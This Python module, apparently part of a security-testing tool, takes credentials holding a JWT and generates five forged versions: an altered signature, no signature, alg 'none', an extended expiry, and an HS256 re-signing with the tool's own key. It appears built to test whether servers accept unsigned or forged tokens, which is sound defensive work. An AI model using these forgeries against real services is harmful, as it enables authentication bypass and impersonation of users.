"""Signed tokens that nobody signed: what a header presents, forged in five ways (RFC 8725)."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import re
from collections.abc import Mapping, Sequence
from typing import Any

from mobstd.judging.exchange import Pairs

__all__ = ["FORGED", "forgeries"]

FORGED = ("signature", "unsigned", "algorithm", "claims", "key")
"""Another signature, none, no algorithm, other claims, and an algorithm and a key of our own."""

_SIGNED = re.compile(r"((?:[A-Za-z]+ )?)(eyJ[\w-]+)\.(eyJ[\w-]+)\.([\w-]+)", re.ASCII)
_KEY = b"mobstd"
_YEAR = 366 * 86_400


def forgeries(credentials: Sequence[tuple[str, str]]) -> Mapping[str, Pairs]:
    """Return credentials whose JWT is forged, by the way; nothing where no JWT is in them."""
    for name, value in credentials:
        signed = _SIGNED.fullmatch(value)
        if signed is not None:
            others = tuple((n, v) for n, v in credentials if n != name)
            scheme, *parts = signed.groups()
            made = _forged(*parts)
            return {way: (*others, (name, scheme + token)) for way, token in made.items()}
    return {}


def _forged(head: str, said: str, signature: str) -> Mapping[str, str]:
    turned = signature[::-1] if signature != signature[::-1] else f"A{signature[1:]}"
    made = {"signature": f"{head}.{said}.{turned}", "unsigned": f"{head}.{said}."}
    header, claims = _read(head), _read(said)
    if header is None or claims is None:
        return made
    none = _written({**header, "alg": "none"})
    own = _written({**header, "alg": "HS256"})
    later = (
        {"exp": claims["exp"] + _YEAR} if isinstance(claims.get("exp"), int) else {"exp": 1 << 31}
    )
    return {
        **made,
        "algorithm": f"{none}.{said}.",
        "claims": f"{head}.{_written({**claims, **later})}.{signature}",
        "key": f"{own}.{said}.{_mac(f'{own}.{said}')}",
    }


def _read(part: str) -> dict[str, Any] | None:
    try:
        read = json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
    except ValueError:
        return None
    return read if isinstance(read, dict) else None


def _written(part: Mapping[str, Any]) -> str:
    return _encoded(json.dumps(part, separators=(",", ":")).encode())


def _mac(text: str) -> str:
    return _encoded(hmac.new(_KEY, text.encode(), hashlib.sha256).digest())


def _encoded(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")
